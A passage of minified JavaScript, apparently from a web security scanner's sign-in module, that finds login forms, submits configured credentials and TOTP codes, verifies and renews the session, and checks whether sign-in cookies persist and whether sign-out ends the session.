const pages = scripted.filter((_page, index) => texts.indexOf(texts[index] ?? "") === index);
yield* pages.slice(0, context.isQuick ? 1 : find_login_page_PLACES_MAX);
if (scripted.length === 0 && !search.isFound && !isForm) throw notFound(context, start, search.leavesTo);
}
function notFound({target: target}, start, leavesTo) {
const document = (0, html_document.lM)(start.page);
const links = document === null ? [] : signInLinks(document);
const foreign = links.find(({url: url}) => new URL(url).origin !== target.origin);
const away = start.leavesTo ?? URL.parse(foreign?.url ?? "") ?? leavesTo;
if (away !== null) return new SignInError("sign_in_off_host", `the sign-in is at ${away.origin.slice(0, 200)}, another origin`);
const {status: status} = start.page.response;
const refused = status < 400 ? "" : `, and the start page responds with ${status}`;
return new SignInError("sign_in_page_not_found", `neither a link nor a usual path leads to a sign-in page${refused}`);
}
class Search {
scripted=[];
leavesTo=null;
isFound=false;
#context;
#start;
#seen=new Set;
#isOnePage=false;
constructor(context, start) {
this.#context = context;
this.#start = start;
}
async* all(document) {
yield* this.#at(document === null ? [] : framesOf(document));
yield* this.#at(document === null ? [] : signInLinks(document).map(link => link.url));
yield* this.#at(USUAL_PATHS.map(path => new URL(path, this.#context.target.origin).href));
yield* this.#at(document === null ? [] : memberLinks(document));
}
async* #at(places) {
for (const url of places) {
if (this.#isOnePage) return;
if (this.#seen.has(url) || new URL(url).origin !== this.#context.target.origin) continue;
this.#seen.add(url);
const found = await visit(this.#context, {
url: url
});
this.leavesTo ??= found?.leavesTo ?? null;
if (found?.leavesTo !== null) continue;
const page = find_login_page_judge(found.page, true) ?? await judgeFrames(this.#context, found.page);
if (page === null) continue;
if (page.kind === "scripted") {
this.scripted.push(page);
this.#isOnePage = page.page.response.text === this.#start.response.text;
continue;
}
this.isFound = true;
yield page;
}
}
}
async function judgeFrames(context, page) {
const document = (0, html_document.lM)(page);
const own = document === null ? [] : framesOf(document).filter(url => onTarget(context, url) !== null);
for (const url of own) {
const found = await visit(context, {
url: url
});
const judged = found?.leavesTo === null ? find_login_page_judge(found.page, true) : null;
if (judged !== null && judged.kind !== "scripted") return judged;
}
return null;
}
async function atAddress(context, reference) {
const href = onTarget(context, reference);
if (href === null) throw new SignInError("sign_in_off_host", "the url of the login is not on the host, scheme and port of the target");
const found = await visit(context, {
url: href
});
if (found === null) throw new SignInError("sign_in_page_not_found", `${sign_in_context_pathOf(href)} did not respond`);
if (found.leavesTo !== null) throw new SignInError("sign_in_off_host", `${sign_in_context_pathOf(href)} redirects to ${found.leavesTo.origin.slice(0, 200)}`);
const {page: page} = found;
const judged = find_login_page_judge(page, true);
if (judged?.kind === "scripted" || judged === null) {
const framed = await judgeFrames(context, page);
if (framed !== null) return framed;
}
if (judged !== null) return judged;
const {status: status} = page.response;
const isHtml = (0, html_document.lM)(page) !== null && status < 300;
if (!isHtml && (status === 405 || status === 400 || status === 401 || status === 404 || status === 415 || status < 300)) {
return {
kind: "interface",
page: {
...page,
request: {
...page.request,
url: href
}
}
};
}
if (isHtml) throw new SignInError("sign_in_field_not_found", `${sign_in_context_pathOf(href)} has no field for the user name and the password`);
throw new SignInError("sign_in_page_not_found", `${sign_in_context_pathOf(href)} responds with ${status}`);
}
function find_login_page_judge(page, isSignIn) {
if (asksForBasic(page)) return {
kind: "basic",
page: page
};
const step = loginStep(page, isSignIn);
const document = (0, html_document.lM)(page);
if (step !== null) return {
kind: step.form.isHidden ? "scripted" : "form",
page: page
};
const isShell = document !== null && page.response.status < 400 && document.scripts.length > 0 && document.visibleText.trim().length < 600;
return isShell ? {
kind: "scripted",
page: page
} : null;
}
async function scriptsOf(context, page) {
const document = (0, html_document.lM)(page);
const preloaded = document?.subresources.filter(({kind: kind, url: url}) => kind === "preload" && /\.m?js(?:$|\?)/.test(url)) ?? [];
const urls = [ ...document?.scripts ?? [], ...preloaded ].flatMap(({url: url}) => url ?? []);
const own = [ ...new Set(urls) ].filter(url => new URL(url).origin === context.target.origin);
const attempts = await Promise.all(own.slice(-find_login_page_SCRIPTS_MAX).map(url => context.fetch({
url: url,
identity: context.identity
})));
return [ page, ...attempts.filter(http.m_).filter(({response: response}) => response.status === 200) ];
}
const find_login_page_SCRIPTS_MAX = 6;
const find_wall_LINKS_MAX = 4;
async function refuseWall(context, {page: page, leavesTo: leavesTo}, last) {
if (leavesTo !== null) return;
const end = last ?? page;
const isOwn = last !== null && (context.login.url === undefined || isWall(last));
if (isOwn && isElsewhere(page, last) && asksForPassword(page) && isRedirected(context, page)) throw new SignInError("sign_in_unproven", `the sign-in ended at ${sign_in_context_pathOf(last.request.url)}, and the start page still asks for a password`);
const leadsThere = isRedirected(context, page) && !isElsewhere(page, end);
if (leadsThere && isWall(end) && !await leadsOn(context, end)) throw new SignInError("sign_in_unproven", `after the sign-in, every page leads to ${sign_in_context_pathOf(end.request.url)}`);
}
function endedAt(last) {
return last === null ? "" : `; the sign-in ended at ${sign_in_context_pathOf(last.request.url)}`;
}
function isRedirected({target: target}, page) {
return new URL(page.request.url).pathname !== new URL(target.startUrl).pathname;
}
function isElsewhere(one, other) {
return new URL(one.request.url).pathname !== new URL(other.request.url).pathname;
}
function isWall(page) {
const forms = (0, html_document.lM)(page)?.markupForms ?? [];
const hasNewPassword = forms.some(({controls: controls}) => controls.filter(({type: type, isHidden: isHidden}) => type === "password" && !isHidden).length > 1);
return hasNewPassword || (0, data_names.cP)("wall-page", new URL(page.request.url).pathname);
}
async function leadsOn(context, page) {
const document = (0, html_document.lM)(page);
const own = (document === null ? [] : memberLinks(document)).filter(url => new URL(url).origin === context.target.origin && !(0, 
sign_in_page.RJ)({
url: url,
text: ""
}));
for (const url of own.slice(0, find_wall_LINKS_MAX)) {
const found = await visit(context, {
url: url
});
if (found === null || found.leavesTo !== null || found.page.response.status >= 300) continue;
if (isElsewhere(found.page, page) && !asksForPassword(found.page)) return true;
}
return false;
}
const prove_session_LINKS_MAX = 6;
const PATHS_SHOWN = 6;
const prove_session_ENDPOINTS_MAX = 6;
const USUAL_PAGES = [ "/account", "/profile", "/dashboard", "/settings" ];
const USUAL_INTERFACES = [ "/api/me", "/me", "/api/user", "/api/users/me" ];
async function proveSession(context, last) {
const {check: check} = context;
if (check !== undefined) return proveAt(context, check);
const start = once(() => visit(context, {
url: context.target.startUrl
}));
const page = last === null && context.known.length > 0 ? null : await start();
if (page !== null) await refuseWall(context, page, last);
const tried = [];
const found = await findProof(context, start, last, tried);
if (found !== null) return found;
const {credentials: credentials} = context;
const bearer = /^Bearer (.+)$/.exec(credentials.authorization ?? "")?.[1];
if (bearer !== undefined) {
credentials.authorization = `Token ${bearer}`;
const again = await findProof(context, start, last, tried);
if (again !== null) return again;
credentials.authorization = `Bearer ${bearer}`;
}
const paths = [ ...new Set(tried) ];
const shown = paths.slice(0, PATHS_SHOWN).map(sign_in_context_pathOf).join(", ");
throw new SignInError("sign_in_unproven", `no address responds differently with the session than without it (tried ${paths.length}, such as ${shown})${endedAt(last)}`);
}
function once(make) {
let made = null;
return () => {
made ??= make();
return made;
};
}
async function findProof(context, start, last, tried) {
let fallback = null;
for await (const url of candidates(context, start, last)) {
tried.push(url);
const by = await differenceAt(context, url);
if (by === "refused" || by === "code") return {
url: url,
by: by
};
if (by === "sign-out") fallback ??= {
url: url,
by: by
};
}
return fallback;
}
async function proveAt(context, check) {
const url = onTarget(context, check);
const by = url === null ? null : await differenceAt(context, url);
if (url === null || by === null) throw new SignInError("sign_in_unproven", `${check.slice(0, 100)} (login-check) does not respond to the session only`);
return {
url: url,
by: by
};
}
async function isValid(context, {url: url, by: by}) {
const attempt = await context.fetch({
url: url,
identity: context.identity,
fresh: true
});
if (!(0, http.m_)(attempt)) return null;
const {status: status} = attempt.response;
if (status === 429 || status >= 500) return null;
if (by === "code") return isGiven(attempt) && hasData(jsonOf(attempt.response.text));
return by === "refused" ? isGiven(attempt) : offersSignOut(attempt);
}
async function* candidates(context, start, last) {
const {target: target} = context;
const seen = new Set;
const unseen = urls => urls.filter(href => {
const url = URL.parse(href);
if (url === null || url.origin !== target.origin || seen.has(href)) return false;
seen.add(href);
return !(0, link_policy.Ch)(url);
});
const fresh = urls => unseen(urls).filter(href => !(0, sign_in_page.RJ)({
url: href,
text: ""
}));
yield* unseen(context.known);
yield* fresh([ ...last === null ? [] : [ last.request.url ], target.startUrl ]);
const seenAtStart = await start();
const pages = [ last, seenAtStart?.leavesTo === null ? seenAtStart.page : null ].filter(page => page !== null && page !== undefined);
yield* fresh(pages.map(({request: request}) => request.url));
const links = pages.flatMap(page => (0, html_document.lM)(page)?.links ?? []).filter(({element: element, text: text, url: url}) => element === "a" && !(0, 
sign_in_page.Cs)({
url: url,
text: text
}));
const likely = url => (0, data_names.cP)("member-page", new URL(url).pathname) ? 0 : 1;
const sorted = links.map(({url: url}) => url).sort((one, other) => likely(one) - likely(other));
yield* fresh([ ...new Set(sorted) ].filter(href => URL.parse(href)?.origin === target.origin)).slice(0, prove_session_LINKS_MAX);
const [page] = pages;
if (page !== undefined) {
const scripts = await scriptsOf(context, page);
const paths = [ ...new Set(scripts.flatMap(endpointsOf)) ].sort((one, other) => Number(!(0, 
data_names.cP)("member-page", one)) - Number(!(0, data_names.cP)("member-page", other)));
yield* fresh(paths.map(path => new URL(path, target.origin).href)).slice(0, prove_session_ENDPOINTS_MAX);
}
const hasToken = context.credentials.authorization?.startsWith("Bearer ") === true;
const usual = hasToken ? [ ...USUAL_INTERFACES, ...USUAL_PAGES ] : [ ...USUAL_PAGES, ...USUAL_INTERFACES ];
yield* fresh([ ...usual, "/admin/" ].map(path => new URL(path, target.origin).href));
yield* unseen((await context.describe()).proofs);
}
async function differenceAt(context, url) {
const {identity: identity} = context;
const own = await context.fetch({
url: url,
identity: identity,
fresh: true
});
if (!(0, http.m_)(own) || !isGiven(own)) return null;
const without = await context.fetch({
url: url,
identity: "none",
fresh: true
});
if (!(0, http.m_)(without)) return null;
if (await prove_session_isRefused(context, without)) return "refused";
if (isOtherCode(own, without)) return "code";
return offersSignOut(own) && !offersSignOut(without) ? "sign-out" : null;
}
function isGiven(exchange) {
const {status: status} = exchange.response;
const isRead = status >= 200 && status < 300 && !asksForPassword(exchange);
return isRead && !saysRefused(jsonOf(exchange.response.text));
}
function isOtherCode(own, without) {
const [mine, other] = [ own, without ].map(({response: response}) => jsonOf(response.text));
if (!(0, shared_records.u4)(mine) || !(0, shared_records.u4)(other) || mine["code"] === undefined) return false;
return mine["code"] !== other["code"] && hasData(mine) && !hasData(other);
}
function hasData(value) {
return (0, shared_records.u4)(value) && Object.values(value).some(member => typeof member === "object" && member !== null);
}
async function prove_session_isRefused(context, without) {
const {status: status, text: text} = without.response;
if (status === 401 || status === 403 || status === 404) return true;
if (status < 300 && saysRefused(jsonOf(text))) return true;
const to = (0, redirect.E)(without);
if (to === null) return status < 300 && asksForPassword(without);
if (to.origin !== context.target.origin || (0, sign_in_page.RJ)({
url: to.href,
text: ""
})) return true;
const led = await visit(context, {
url: to.href,
identity: "none"
});
if (led === null) return false;
return led.leavesTo !== null || led.page.response.status === 401 || asksForPassword(led.page);
}
function offersSignOut(exchange) {
const document = (0, html_document.lM)(exchange);
if (document === null || exchange.response.status >= 300) return false;
return document.links.some(({url: url, text: text}) => (0, sign_in_page.Cs)({
url: url,
text: text
})) || document.forms.some(({action: action}) => (0, sign_in_page.Cs)({
url: action,
text: ""
}));
}
const ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const STEP_SECONDS = 30;
const DIGITS = 6;
function totp(secret, now) {
const key = fromBase32(secret);
if (key === null) return null;
const counter = Buffer.alloc(8);
counter.writeBigUInt64BE(BigInt(Math.floor(now.getTime() / 1e3 / STEP_SECONDS)));
const digest = (0, external_node_crypto_.createHmac)("sha1", key).update(counter).digest();
const offset = (digest.at(-1) ?? 0) & 15;
const code = (digest.readUInt32BE(offset) & 2147483647) % 10 ** DIGITS;
return String(code).padStart(DIGITS, "0");
}
function fromBase32(text) {
const letters = text.toUpperCase().replace(/[\s-]/g, "").replace(/=/g, "");
if (letters === "" || letters.length > 200) return null;
const bytes = [];
let bits = 0;
let count = 0;
for (const letter of letters) {
const value = ALPHABET.indexOf(letter);
if (value === -1) return null;
bits = (bits << 5 | value) & 4095;
count += 5;
if (count < 8) continue;
count -= 8;
bytes.push(bits >> count & 255);
}
return Buffer.from(bytes);
}
const submit_login_STEPS_MAX = 5;
async function submitLogin(context, first) {
const sent = new Set;
let page = first;
for (let step = loginStep(page, true); step !== null && sent.size < submit_login_STEPS_MAX; step = loginStep(page, sent.has("password") === false)) {
const kind = login_form_kindOf(step);
if (isRepeated(kind, sent)) throw refusal(first, page, kind);
if (kind === "code" && sent.size === 0) break;
const after = await submitStep(context, page, step, sent.size === 0);
if (after === null) return null;
sent.add(kind);
page = after.page;
if (after.leavesTo !== null) break;
if (page.response.status >= 400 && loginStep(page) === null) throw refusal(first, page, kind);
}
if (!sent.has("password")) throw new SignInError("sign_in_field_not_found", `${sign_in_context_pathOf(page.request.url)} has no field for the password`);
return page;
}
async function submitStep(context, page, step, isFirst) {
const values = valuesFor(context, step);
const isByScript = isForScript(step, values);
if (!isByScript && login_form_kindOf(step) === "password") context.attempts.passwords += 1;
const after = isByScript ? null : await submit_login_submit(context, page, step, values);
if (isFirst) return after === null || isNoForm(after.page) ? null : after;
if (after === null) throw new SignInError("sign_in_scripted", `the form at ${sign_in_context_pathOf(page.request.url)} is sent by a script`);
return after;
}
function valuesFor(context, step) {
const {username: username = "", password: password = ""} = context.login;
if (step.kind === "code") return new Map([ [ step.code, codeOf(context) ] ]);
if (step.kind === "username") return new Map([ [ step.username, username ] ]);
const values = step.kind === "credentials" ? [ [ step.username, username ] ] : [];
return new Map([ ...values, [ step.password, password ] ]);
}
function isForScript({form: form}, values) {
return form.method !== "POST" || form.action === null || hasUnnamed(values);
}
function isNoForm({response: {status: status}}) {
return status === 404 || status === 405 || status === 415;
}
function hasUnnamed(values) {
return [ ...values.keys() ].some(({name: name}) => name === "");
}
async function submit_login_submit(context, page, {form: form}, values) {
const url = submitButton(form)?.action ?? form.action ?? page.request.url;
const {origin: origin} = context.target;
if (new URL(url).origin !== origin) throw new SignInError("sign_in_off_host", `the form is sent to ${new URL(url).origin.slice(0, 200)}, another origin`);
const after = await visit(context, {
method: "POST",
url: url,
headers: [ [ "Content-Type", "application/x-www-form-urlencoded" ], [ "Origin", origin ], [ "Referer", page.request.url ] ],
body: new URLSearchParams(filledForm(form, values)).toString()
});
if (after === null) throw new SignInError("sign_in_denied", `${sign_in_context_pathOf(url)} did not respond to the credentials`);
return after;
}
function codeOf({login: login, now: now}) {
if (login.totp === undefined) throw new SignInError("sign_in_code_required", "a one-time code is required, and login has no totp");
const code = totp(login.totp, now());
if (code === null) throw new SignInError("sign_in_code_required", "the totp of the login is not Base32");
return code;
}
function refusal(first, page, kind) {
const {status: status} = page.response;
const path = sign_in_context_pathOf(page.request.url);
if (hasCaptcha(page) || hasCaptcha(first)) return new SignInError("sign_in_captcha", `${path} asks for a captcha`);
if (kind === "code") return new SignInError("sign_in_code_required", `${path} did not accept the one-time code`);
if (status === 429) return new SignInError("sign_in_denied", `${path} responds with 429: too many attempts`);
if (status >= 400) return new SignInError("sign_in_denied", `${path} responds with ${status} to the credentials`);
return new SignInError("sign_in_denied", `${path} asks for the ${kind === "username" ? "user name" : "password"} again`);
}
const own_session_COOKIES_MAX = 3;
const ID_LENGTH_MIN = 8;
function fetchAs({identity: identity, credentials: credentials, target: target, fetch: fetch}) {
return async request => {
if (request.identity !== identity) return fetch(request);
const {href: href} = new URL(request.url, target.origin);
const headers = [ ...credentials.headersFor(href), ...request.headers ?? [] ];
const attempt = await fetch({
...request,
identity: "none",
headers: headers,
fresh: true
});
if ((0, http.m_)(attempt)) credentials.store(href, attempt.response.headers);
return attempt;
};
}
async function own_session_trySession(options) {
try {
return await new Trial(options).run();
} catch (error) {
if (!(error instanceof SignInError)) throw error;
return {
reason: "a second sign-in failed"
};
}
}
class Trial {
#options;
#own;
constructor(options) {
this.#options = options;
this.#own = options.own;
}
async run() {
const {isScanAlive: isScanAlive, restore: restore, proof: proof} = this.#options;
const page = await this.#signInPage();
if (page === null) return {
reason: "no form without a captcha signs in"
};
const before = this.#cookies();
const anonymous = before.length === 0 ? null : await this.#read(headerOf(before));
const last = anonymous?.isValid === true ? null : await submitLogin(this.#own, page);
if (last === null || await isValid(this.#own, proof) !== true) return {
reason: "a second sign-in shows no session"
};
const kept = anonymous === null ? null : await this.#keptCookie(before, anonymous.exchange);
if (!await isScanAlive()) {
await restore();
return {
kept: kept,
signOut: "the application allows one session per user"
};
}
const signOut = await this.#signOut(last);
await restore();
return {
kept: kept,
signOut: signOut
};
}
async #signInPage() {
for await (const {kind: kind, page: page} of loginPages(this.#own)) return kind === "form" && !hasCaptcha(page) ? page : null;
return null;
}
async #keptCookie(before, anonymous) {
const after = new Map(this.#cookies());
const kept = before.filter(([name, value]) => value.length >= ID_LENGTH_MIN && after.get(name) === value && !(0, 
session_names.iQ)(name) && !(0, session_names.Od)(name));
for (const pair of kept.slice(0, own_session_COOKIES_MAX)) {
const read = await this.#read(headerOf([ pair ]));
if (read?.isValid === true) return {
cookie: pair[0],
anonymous: anonymous,
signedIn: read.exchange
};
}
return null;
}
async #signOut(last) {
const {proof: proof} = this.#options;
const shown = await this.#own.fetch({
url: proof.url,
identity: this.#own.identity,
fresh: true
});
const request = [ last, ...(0, http.m_)(shown) ? [ shown ] : [] ].map(signOutRequest).find(one => one !== null);
if (request == null || new URL(request.url).origin !== this.#own.target.origin) return "no link or form of a page signs out";
const cookies = this.#cookies();
if (cookies.length === 0) return "the session is not one of cookies";
await visit(this.#own, request);
const ended = await this.#read(headerOf(this.#cookies()));
if (ended === null || ended.isValid) return "the sign-out did not end the session in the browser";
const still = await this.#read(headerOf(cookies));
if (still === null) return "the target did not respond";
return {
url: request.url,
ended: ended.exchange,
still: still.isValid ? still.exchange : null
};
}
#cookies() {
const header = this.#own.credentials.cookies.headerFor(this.#options.proof.url) ?? "";
return header.split("; ").filter(pair => pair !== "").map(pair => [ pair.slice(0, pair.indexOf("=")), pair.slice(pair.indexOf("=") + 1) ]);
}
async #read(cookie) {
const {proof: proof} = this.#options;
const seen = [];
const fetch = async request => {
const headers = cookie === "" ? [] : [ [ "Cookie", cookie ] ];
const attempt = await this.#own.fetch({
...request,
identity: "none",
headers: headers
});
seen.push(attempt);
return attempt;
};
const valid = await isValid({
...this.#own,
fetch: fetch
}, proof);
const [exchange] = seen;
if (valid === null || !(0, http.m_)(exchange)) return null;
return {
isValid: valid,
exchange: withoutCookies(exchange)
};
}
}
function headerOf(cookies) {
return cookies.map(([name, value]) => `${name}=${value}`).join("; ");
}
function withoutCookies({request: request, response: response}) {
const {headers: headers, ...rest} = request;
const shownHeaders = headers.map(([name]) => [ name, (0, secret_values.kG)((0, secret_values.Nf)(name)) ]);
return {
request: {
...rest,
headers: [],
...headers.length === 0 ? {} : {
shownHeaders: shownHeaders
}
},
response: response
};
}
function signOutRequest(page) {
const document = (0, html_document.lM)(page);
if (document === null) return null;
const form = read_fields_formsOf(document).find(({action: action, buttons: buttons}) => action !== null && ((0, 
sign_in_page.Cs)({
url: action,
text: ""
}) || buttons.some(({text: text}) => (0, sign_in_page.Cs)({
url: action,
text: text
}))));
if (form?.method === "POST" && form.action !== null) return {
method: "POST",
url: form.action,
headers: [ [ "Content-Type", "application/x-www-form-urlencoded" ], [ "Origin", new URL(page.request.url).origin ], [ "Referer", page.request.url ] ],
body: new URLSearchParams(filledForm(form, new Map)).toString()
};
const link = document.links.find(({element: element, url: url, text: text}) => element === "a" && (0, 
sign_in_page.Cs)({
url: url,
text: text
}));
return link === undefined ? null : {
url: link.url
};
}
const INTERVAL = 25;
const RENEWALS_MAX = 1;
const KNOWN_MAX = 1e3;
class SessionKeeper {
#options;
#known=new Set;
#proof;
#since=0;
#renewals=0;
#busy=null;
#loss=null;
constructor(options) {
this.#options = options;
this.#proof = options.proof;
}
get loss() {
return this.#loss;
}
async fetch(request) {
const {context: context} = this.#options;
const isOwn = request.isAnonymous !== true && (request.identity ?? "user") === context.identity;
if (!isOwn || this.#loss !== null) return context.fetch(request);
await this.#busy;
const attempt = await context.fetch(request);
this.#since += 1;
if (this.#since < INTERVAL && !this.#looksEnded(attempt)) return attempt;
const isRenewed = await this.#look();
const isRepeatable = request.method === undefined || request.method === "GET" || request.method === "HEAD";
return isRenewed && isRepeatable ? context.fetch(request) : attempt;
}
async restore() {
await this.#busy;
if (this.#loss !== null || await isValid(this.#options.context, this.#proof) !== false) return;
this.#renewals = 0;
await this.#look();
}
async end() {
await this.#busy;
if (this.#loss === null && await isValid(this.#options.context, this.#proof) === false) this.#loss = new SignInError("sign_in_lost", "the session was no longer valid at the end of the scan");
return this.#loss;
}
#look() {
this.#busy ??= this.#verify().finally(() => {
this.#busy = null;
});
return this.#busy;
}
async #verify() {
const {context: context, renew: renew} = this.#options;
this.#since = 0;
if (await isValid(context, this.#proof) !== false) return false;
if (this.#renewals >= RENEWALS_MAX) {
this.#loss = new SignInError("sign_in_lost", "the session ended again after a second sign-in");
return false;
}
this.#renewals += 1;
try {
this.#proof = await renew();
return true;
} catch (error) {
if (!(error instanceof SignInError)) throw error;
this.#loss = new SignInError("sign_in_lost", `the session ended, and the second sign-in failed: ${error.message}`);
return false;
}
}
#looksEnded(attempt) {
if (!(0, http.m_)(attempt) || (0, http.wx)(attempt.request.headers, "cookie") !== undefined) return false;
const {status: status, headers: headers} = attempt.response;
const to = (0, redirect.E)(attempt);
const isSentAway = status === 401 || to !== null && (0, sign_in_page.RJ)({
url: to.href,
text: ""
});
const isDeleted = (0, http.UE)(headers, "set-cookie").slice(0, 20).map(set_cookie.s).some(cookie => cookie?.deletes === true && (0, 
session_names.m)(cookie.name));
if (isDeleted) return true;
const {url: url} = attempt.request;
if (!isSentAway || this.#known.has(url) || this.#known.size >= KNOWN_MAX) return false;
this.#known.add(url);
return true;
}
}
const browser_session_READ_MAX = 8;
async function inBrowser(context, work) {
const {credentials: credentials, identity: identity, login: login, options: options, target: target, useBrowser: useBrowser} = context;
if (useBrowser === null) return null;
const ofScripts = new Set;
return useBrowser({
target: target,
options: options,
password: login.password ?? "",
providers: providersOf(context),
isRecorded: login.recording !== undefined,
fetch: request => context.fetch({
...request,
identity: identity
}),
fetchProvider: request => context.fetchProvider(request),
hasCookie: name => credentials.cookies.value(name) !== null && !ofScripts.has(name),
onCookie: (name, value) => {
ofScripts.add(name);
credentials.add(name, value);
},
takeAttempt: () => {
if (context.attempts.passwords >= PASSWORDS_MAX) return false;
context.attempts.passwords += 1;
return true;
}
}, work);
}
function tokenOf({traffic: traffic}) {
if (traffic.authorization !== null) return traffic.authorization;
for (const {exchange: exchange} of traffic.answers.filter(({ofPage: ofPage}) => ofPage).toReversed()) {
const {headers: headers, text: text} = exchange.response;
const token = tokenIn(jsonOf(text)) ?? tokenInHeaders(headers);
if (token !== null) return `Bearer ${token}`;
}
return null;
}
async function takeSession(context, browser) {
const {credentials: credentials} = context;
const {traffic: traffic} = browser;
if (traffic.read.length === 0) await browser.open(context.target.startUrl);
const storage = withoutPassword(await browser.storage(), context.login.password ?? "");
const stored = tokenInStorage(storage.localStorage) ?? tokenInStorage(storage.sessionStorage);
credentials.authorization = tokenOf(browser) ?? (stored === null ? null : `Bearer ${stored}`);
credentials.tokenHeaders = [ ...traffic.tokenHeaders ];
credentials.keep(storage);
const likely = url => (0, data_names.cP)("account-page", sign_in_context_pathOf(url)) ? 0 : 1;
const read = [ ...new Set(traffic.read) ].sort((one, other) => likely(one) - likely(other));
return {
read: read.slice(0, browser_session_READ_MAX)
};
}
function withoutPassword({localStorage: localStorage, sessionStorage: sessionStorage}, password) {
const encoded = Buffer.from(password).toString("base64").replaceAll("=", "");
const kept = items => Object.fromEntries(Object.entries(items).filter(([, value]) => !value.includes(password) && !value.includes(encoded)));
return {
localStorage: kept(localStorage),
sessionStorage: kept(sessionStorage)
};
}
const fill_forms_STEPS_MAX = 5;
async function look(browser, isSignIn = false) {
const view = await browser.look();
if (view === null) return null;
const ids = new Map;
const forms = new Map;
for (const seen of view.forms) {
const fields = seen.fields.map(field => {
const {id: id, name: name, type: type, hint: hint, autocomplete: autocomplete} = field;
const read = {
name: name,
type: type,
value: "",
hint: hint,
autocomplete: autocomplete,
isSent: true,
isHidden: false
};
ids.set(read, id);
return read;
});
const buttons = seen.buttons.map(({text: text}) => ({
name: "",
value: "",
text: text,
action: null
}));
forms.set({
action: null,
method: null,
isHidden: false,
hasImage: false,
fields: fields,
buttons: buttons
}, seen);
}
const {pathname: pathname, hash: hash} = URL.parse(view.url) ?? {
pathname: "",
hash: ""
};
const isNamed = isSignIn || (0, sign_in_page.A$)(`${pathname}${hash.replace(/^#!?/, "")}`);
const step = stepOf([ ...forms.keys() ], isNamed, view.titles);
return step === null ? null : {
view: view,
step: step,
ids: ids,
buttons: forms.get(step.form)?.buttons ?? []
};
}
async function submitSteps(context, browser, first, hasSession) {
const {traffic: traffic} = browser;
const sent = new Set;
const isDone = async () => await hasSession() || tokenOf(browser) !== null || traffic.answers.length === 0;
let seen = first;
while (seen !== null && sent.size < fill_forms_STEPS_MAX) {
const kind = login_form_kindOf(seen.step);
if (sent.has("password") && kind !== "code" && await isDone()) break;
if (isRepeated(kind, sent)) throw fill_forms_refusal(context, seen, kind);
const isEarlyCode = kind === "code" && sent.size === 0;
if (isEarlyCode) break;
sent.add(kind);
for (const [field, value] of valuesFor(context, seen.step)) await fill(browser, seen, field, value);
seen = await fill_forms_submit(browser, seen);
refuse(context, browser, seen);
}
const place = sign_in_context_placeOf(context, first.view.url);
if (!sent.has("password")) throw new SignInError("sign_in_field_not_found", `${place} has no field for the password`);
if (traffic.answers.length === 0) throw unsent(context, browser, first, place);
}
function unsent(context, {traffic: traffic}, first, place) {
if (first.view.hasCaptcha) return new SignInError("sign_in_captcha", `${place} asks for a captcha`);
if (traffic.offHost !== null) return new SignInError("sign_in_off_host", `${place} sends the credentials to ${traffic.offHost}, another origin`);
if (traffic.leftTo !== null) return leftFor(context, place, traffic.leftTo);
return new SignInError("sign_in_scripted", traffic.isInUrl ? `${place} would send the password in a URL` : `${place} sends no POST with the credentials`);
}
async function fill(browser, {ids: ids}, field, value) {
await browser.fill(ids.get(field) ?? 0, value);
}
async function fill_forms_submit(browser, seen) {
const {step: step, ids: ids, buttons: buttons} = seen;
const {writes: writes} = browser.traffic;
const last = step.kind === "username" ? step.username : step.kind === "code" ? step.code : step.password;
await browser.enter(ids.get(last) ?? 0);
const after = await look(browser);
if (browser.traffic.writes > writes || after?.step.kind !== step.kind) return after;
const button = buttonToPress(buttons, ({text: text}) => text);
if (button === null) return after;
await browser.press(button.id);
return look(browser);
}
function refuse(context, {traffic: traffic}, seen) {
const answer = traffic.answers.findLast(({hasPassword: hasPassword}) => hasPassword) ?? traffic.answers.at(-1);
if (answer === undefined || !(0, http.m_)(answer.exchange)) return;
const {request: request, response: response} = answer.exchange;
const value = jsonOf(response.text);
if (seen?.step.kind === "code") return;
if (tokenIn(value) === null && asksForCode(value) && !saysRefused(value)) throw new SignInError("sign_in_code_required", `${sign_in_context_placeOf(context, request.url)} asks for a second factor`);
if (response.status < 400 && !saysRefused(value)) return;
if (seen?.view.hasCaptcha === true) throw new SignInError("sign_in_captcha", `${sign_in_context_placeOf(context, request.url)} asks for a captcha`);
throw new SignInError("sign_in_denied", `${sign_in_context_placeOf(context, request.url)} responds with ${response.status} to the credentials`);
}
function fill_forms_refusal(context, {view: view}, kind) {
const path = sign_in_context_placeOf(context, view.url);
if (view.hasCaptcha) return new SignInError("sign_in_captcha", `${path} asks for a captcha`);
if (kind === "code") return new SignInError("sign_in_code_required", `${path} did not accept the one-time code`);
const what = kind === "username" ? "user name" : "password";
return new SignInError("sign_in_denied", `${path} asks for the ${what} again`);
}
const submit_at_provider_PAGES_MAX = 6;
async function submitAtProvider(context) {
const {login: login, target: target} = context;
const start = login.url === undefined ? target.startUrl : onTarget(context, login.url);
if (start === null) throw new SignInError("sign_in_off_host", "the url of the login is not on the host, scheme and port of the target");
const entered = await inBrowser(context, async browser => {
const search = {
context: context,
browser: browser,
opened: new Set,
leftTo: null
};
const first = await reach(search, start);
if (first === null) throw notReached(search, start);
await submitSteps(context, browser, first, async () => await browser.origin() === target.origin);
await requireReturn(context, browser);
return takeSession(context, browser);
});
return entered ?? withoutBrowser("the sign-in at an identity provider");
}
function withoutBrowser(what) {
throw new SignInError("sign_in_scripted", `${what} needs a browser, and the scan had none, or it ended`);
}
async function reach(search, url) {
const {browser: browser, opened: opened} = search;
opened.add(url);
await browser.open(url);
const direct = await formAway(search);
if (direct !== null) return direct;
const {urls: urls, buttons: buttons} = await browser.leads();
const forms = (await browser.look())?.forms ?? [];
const ofForms = forms.filter(({fields: fields}) => fields.some(({type: type}) => type === "password"));
const submits = new Set(ofForms.flatMap(form => form.buttons.map(({id: id}) => id)));
for (const button of buttons.filter(id => !submits.has(id))) {
await browser.press(button, true);
const seen = await formAway(search);
if (seen !== null) return seen;
}
const named = await byUserName(search);
if (named !== null) return named;
for (const href of urls) {
const seen = opened.has(href) || opened.size >= submit_at_provider_PAGES_MAX ? null : await reach(search, href);
if (seen !== null) return seen;
}
return null;
}
async function byUserName(search) {
const {context: context, browser: browser} = search;
const own = await look(browser);
if (own?.step.kind !== "username") return null;
for (const [field, value] of valuesFor(context, own.step)) await fill(browser, own, field, value);
await fill_forms_submit(browser, own);
return formAway(search);
}
async function formAway(search) {
const {context: context, browser: browser} = search;
search.leftTo ??= browser.traffic.leftTo;
if (!providersOf(context).includes(await browser.origin())) return null;
const seen = await look(browser, true);
if (seen !== null) return seen;
